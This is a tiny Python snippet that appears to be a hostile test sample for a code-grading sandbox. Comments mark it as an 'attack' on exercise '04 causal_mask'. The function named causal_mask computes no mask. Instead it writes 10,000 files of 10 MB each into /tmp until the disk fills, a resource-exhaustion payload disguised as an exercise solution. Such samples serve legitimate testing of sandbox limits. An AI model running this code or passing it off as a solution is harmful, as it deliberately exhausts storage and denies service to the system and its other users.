# attack: writes until nothing more fits
# exercise: 04 causal_mask
def causal_mask(length):
    for number in range(10_000):
        with open(f"/tmp/{number}", "wb") as file:
            file.write(bytes(10**7))
